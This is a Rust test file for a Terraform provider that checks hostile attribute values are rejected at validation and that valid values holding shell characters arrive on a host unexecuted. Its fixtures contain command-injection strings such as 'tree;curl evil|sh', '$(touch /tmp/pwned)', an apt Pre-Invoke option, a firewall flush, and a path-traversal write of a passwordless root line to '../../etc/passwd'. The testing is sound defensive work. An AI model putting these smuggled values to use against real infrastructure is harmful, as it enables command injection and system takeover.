//! Hostile attribute values (issue 20): shell metacharacters, newlines,
//! quotes, `$(...)`, backquotes, option-looking words and path traversal
//! in every attribute that reaches a host's shell, a file on a host or a
//! Kubernetes object.
//!
//! 1. `hostile_values_are_refused_at_their_attribute`: one configuration
//!    with a hostile value in each such attribute; `terraform validate`
//!    with every CLI of the bed must refuse each at its own line (no host
//!    or API server is contacted: the addresses are documentation ones).
//! 2. `hostile_but_valid_values_reach_a_real_host_unchanged`: the values
//!    that ARE valid and still hold shell characters (a public key's
//!    comment, a sysctl value) applied to a real bed host: they arrive
//!    byte for byte, and no command in them ran.
//!
//! Strings on the wire are UTF-8 by the protocol (MessagePack str, JSON);
//! Terraform never sends anything else, and the decoders' handling of
//! invalid UTF-8 is checked by `tests/codec_props.rs` and the fuzz targets.

// Test code: a panic (with its message) is the failure report, so unwrap/expect are fine.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use support::bed::{bed, hosts_lock};
use support::{Workdir, clis_or_skip};

const HOSTILE: &str = r#"terraform {
  required_providers {
    selfhost = { source = "selfhost/selfhost" }
  }
}

resource "selfhost_vps_host" "conn_host" {
  ssh_connection {
    host = "203.0.113.10;touch /tmp/pwned"
  }
}

resource "selfhost_vps_host" "conn_user" {
  ssh_connection {
    host     = "203.0.113.11"
    user     = "root$(touch /tmp/pwned)"
    host_key = "ssh-ed25519 AAAAC3Nz\nssh-rsa injected"
    bastion {
      host = "jump host"
    }
  }
}

resource "selfhost_vps_host" "values" {
  ssh_connection {
    host = "203.0.113.12"
  }
  hostname          = "web;reboot"
  timezone          = "Europe/Paris$(touch /tmp/pwned)"
  packages          = ["tree;curl evil|sh"]
  kernel_modules    = ["br_netfilter`touch /tmp/pwned`"]
  sysctl            = { "vm.swappiness" = "1\ntouch /tmp/pwned" }
  container_runtime = "containerd && touch /tmp/pwned"
  admin_user {
    name            = "ops'$(touch /tmp/pwned)'"
    authorized_keys = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ok\nssh-rsa AAAA injected"]
  }
  ssh_hardening {
    permit_root_login = "yes\nPermitEmptyPasswords yes"
  }
  firewall {
    allow {
      port = "22"
    }
    allow {
      port    = "80;nft flush ruleset"
      sources = ["0.0.0.0/0 accept"]
    }
  }
}

resource "selfhost_vps_host" "sysctl_key" {
  ssh_connection {
    host = "203.0.113.13"
  }
  sysctl = { "kernel.core_pattern|/tmp/x" = "1" }
  packages = ["-oAPT::Update::Pre-Invoke::=touch"]
}

resource "selfhost_k8s_cluster" "main" {
  version       = "v1.36.3;id"
  control_plane = { host = "203.0.113.20;id", port = 22, user = "root id", host_key = "ssh-ed25519 AAAA" }
  pod_cidr      = "10.244.0.0/16 || id"
  service_cidr  = "10.96.0.0/12"
  node_settings {
    kubelet_cgroup_root = "/kube$(id)"
  }
  namespace {
    name = "agents;id"
  }
}

resource "selfhost_agent" "a" {
  kubeconfig = "x"
  namespace  = "agents"
  name       = "web$(id)"
  image      = "nginx:1 ; touch /tmp/pwned"
  env        = { "A=B;touch" = "ok" }
  config_files = { "../../etc/passwd" = "root::0:0::/:/bin/sh" }
  config_path  = "relative/../path"
  node_selector = { "zone" = "a b" }
  port {
    name = "http$(id)"
    port = 80
  }
}

resource "selfhost_backup_schedule" "b" {
  kubeconfig          = "x"
  namespace           = "agents"
  name                = "nightly`id`"
  schedule            = "0 3 * * * ; touch /tmp/pwned"
  time_zone           = "Europe/Paris;id"
  encryption_password = "pw"
  source {
    agent = "web"
  }
  destination {
    volume {
      claim = "backups;id"
    }
  }
}

resource "selfhost_network_policy" "p" {
  kubeconfig = "x"
  namespace  = "agents"
  name       = "deny$(id)"
  agents     = ["web;id"]
  ingress {
    from_cidrs = ["10.0.0.0/8;id"]
    ports      = ["80/tcp;id"]
  }
}

resource "selfhost_gateway_token" "t" {
  secret {
    kubeconfig = "x"
    namespace  = "agents"
    name       = "token;id"
    key        = "to ken"
  }
}
"#;

#[test]
fn hostile_values_are_refused_at_their_attribute() {
    support::expect_invalid_at(
        "hostile_values_are_refused_at_their_attribute",
        "hostile-validate",
        HOSTILE,
        &[
            // selfhost_vps_host: the connection
            (
                "host = \"203.0.113.10;touch",
                "address \"203.0.113.10;touch /tmp/pwned\" has ';'",
            ),
            (
                "user     = \"root$(touch",
                "login user \"root$(touch /tmp/pwned)\" has '$'",
            ),
            ("host_key = \"ssh-ed25519 AAAAC3Nz\\n", "public key spans several lines"),
            ("host = \"jump host\"", "address \"jump host\" has ' '"),
            // selfhost_vps_host: what reaches the host's shell and files
            ("hostname          = \"web;reboot\"", "Invalid hostname"),
            ("timezone          =", "Invalid time zone"),
            ("packages          =", "package \"tree;curl evil|sh\" has ';'"),
            ("kernel_modules    =", "Invalid module name"),
            ("\"vm.swappiness\" = \"1\\n", "holds a control character (a newline?)"),
            ("container_runtime =", "container_runtime must be one of"),
            ("name            = \"ops'", "Invalid user name"),
            ("authorized_keys =", "public key spans several lines"),
            ("permit_root_login =", "Invalid permit_root_login"),
            ("port    = \"80;nft", "Invalid port"),
            ("sources = [\"0.0.0.0/0 accept\"]", "Invalid CIDR"),
            ("\"kernel.core_pattern|/tmp/x\"", "Invalid sysctl key"),
            ("packages = [\"-oAPT", "Invalid package name"),
            // selfhost_k8s_cluster
            ("version       = \"v1.36.3;id\"", "is not a Kubernetes release version"),
            (
                "control_plane = {",
                "control_plane.user: login user \"root id\" has ' '",
            ),
            (
                "control_plane = {",
                "control_plane.host: address \"203.0.113.20;id\" has ';'",
            ),
            ("pod_cidr      =", "Invalid CIDR"),
            ("kubelet_cgroup_root =", "is not a cgroup path"),
            ("name = \"agents;id\"", "Invalid namespace name"),
            // selfhost_agent
            ("name       = \"web$(id)\"", "Invalid name"),
            ("image      =", "Invalid image reference"),
            ("env        =", "Invalid environment variable name"),
            ("config_files =", "Invalid file name"),
            ("config_path  =", "Invalid path"),
            ("node_selector =", "Invalid label value"),
            ("name = \"http$(id)\"", "Invalid port name"),
            // selfhost_backup_schedule
            ("name                = \"nightly`id`\"", "Invalid CronJob name"),
            ("schedule            =", "Invalid schedule"),
            ("time_zone           =", "Invalid time zone"),
            ("claim = \"backups;id\"", "Invalid claim name"),
            // selfhost_network_policy
            ("name       = \"deny$(id)\"", "Invalid name"),
            ("agents     = [\"web;id\"]", "Invalid agent name"),
            ("from_cidrs = [\"10.0.0.0/8;id\"]", "Invalid CIDR"),
            ("ports      = [\"80/tcp;id\"]", "Invalid port"),
            // selfhost_gateway_token
            ("name       = \"token;id\"", "Invalid Secret name"),
            ("key        = \"to ken\"", "Invalid Secret key"),
        ],
    );
}

/// A public key's comment and a sysctl value may hold any printable text:
/// both are applied to a real host and must arrive unchanged, with no
/// command in them run. (The bed's hosts are containers: `kernel.*` is
/// read-only there, so the sysctl is only written to its file, with a
/// warning; the file is what is checked.)
#[test]
fn hostile_but_valid_values_reach_a_real_host_unchanged() {
    const TEST: &str = "hostile_but_valid_values_reach_a_real_host_unchanged";
    let Some(bed) = bed(TEST) else { return };
    let _lock = hosts_lock();
    let clis = clis_or_skip(TEST);
    let Some(cli) = clis.last() else { return };
    let host = bed.hosts[0].clone();
    bed.sh(&host, support::host_reset::RESET_HOST);
    bed.sh(&host, "rm -f /tmp/pwned*");
    let mut key = bed.public_key.split_whitespace().take(2).collect::<Vec<_>>().join(" ");
    let comment = r#"it's "ops" $(touch /tmp/pwned1) `touch /tmp/pwned2` ; touch /tmp/pwned3 | & < > \ ${HOME} *"#;
    key.push(' ');
    key.push_str(comment);
    let domain = r#"$(touch /tmp/pwned4);`touch /tmp/pwned5`|x&'q'"dq"\"#;
    let hcl_string = |s: &str| serde_json::to_string(s).expect("JSON string").replace("${", "$${");
    let config = format!(
        r#"{provider}
resource "selfhost_vps_host" "h" {{
  ssh_connection {{
    host = "{addr}"
    port = {port}
  }}
  sysctl = {{ "kernel.domainname" = {domain} }}
  admin_user {{
    name            = "hostile-ok"
    authorized_keys = [{key}]
  }}
}}
"#,
        provider = bed.provider_block(),
        addr = host.addr,
        port = host.port,
        domain = hcl_string(domain),
        key = hcl_string(&key),
    );
    let wd = Workdir::new(cli, "hostile-host");
    wd.write("main.tf", &config);
    wd.init();
    wd.ok(&["apply", "-auto-approve", "-input=false", "-no-color"]);
    let o = wd.run(&["plan", "-detailed-exitcode", "-input=false", "-no-color"]);
    assert_eq!(
        o.code,
        Some(0),
        "the values read back as written: the plan is empty\n{o}"
    );

    let pwned = bed.sh(&host, "ls /tmp/pwned* 2>/dev/null || true");
    let keys = bed.sh(&host, "cat ~hostile-ok/.ssh/authorized_keys");
    let conf = bed.sh(&host, "grep '^kernel.domainname = ' /etc/sysctl.d/99-selfhost.conf");
    wd.ok(&["destroy", "-auto-approve", "-input=false", "-no-color"]);
    bed.sh(&host, support::host_reset::RESET_HOST);
    assert_eq!(pwned.trim(), "", "a command inside a value ran on the host");
    assert!(
        keys.lines().any(|l| l == key),
        "the key with its comment arrives byte for byte:\n{keys}\nexpected:\n{key}"
    );
    assert_eq!(
        conf.trim_end(),
        format!("kernel.domainname = {domain}"),
        "the sysctl value arrives unchanged"
    );
}
